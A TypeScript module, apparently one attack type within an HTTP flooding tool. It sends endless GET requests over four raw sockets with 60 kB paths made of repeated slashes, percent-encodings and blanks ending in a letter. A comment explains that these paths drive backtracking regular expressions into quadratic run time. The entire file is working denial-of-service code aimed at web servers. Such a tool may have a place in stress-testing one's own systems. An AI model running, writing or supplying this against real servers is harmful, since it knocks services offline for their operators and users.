import type { Flood } from '../flood.ts';
import { sendRaw } from '../raw-socket.ts';

const LENGTH = 60_000;
/** What makes an expression that goes back and forth take the square of the length. */
const FORMS = ['/', '%2f', '/.', ' /', '//a', 'a', '%20', '\t'];

export const longAddresses: Flood = {
  name: 'long-addresses',
  what: 'addresses of 60 kB: slashes, blanks, percent signs, then a letter',
  sockets: 4,
  run: async (attack, socket, address) => {
    for (let turn = socket; !attack.over(); turn += 1) {
      const form = FORMS[turn % FORMS.length]!;
      const path = `/${form.repeat(Math.floor(LENGTH / form.length))}x`.replaceAll(/[ \t]/g, '%20').slice(0, LENGTH);
      await sendRaw(attack, address, Buffer.from(`GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`));
    }
  },
};
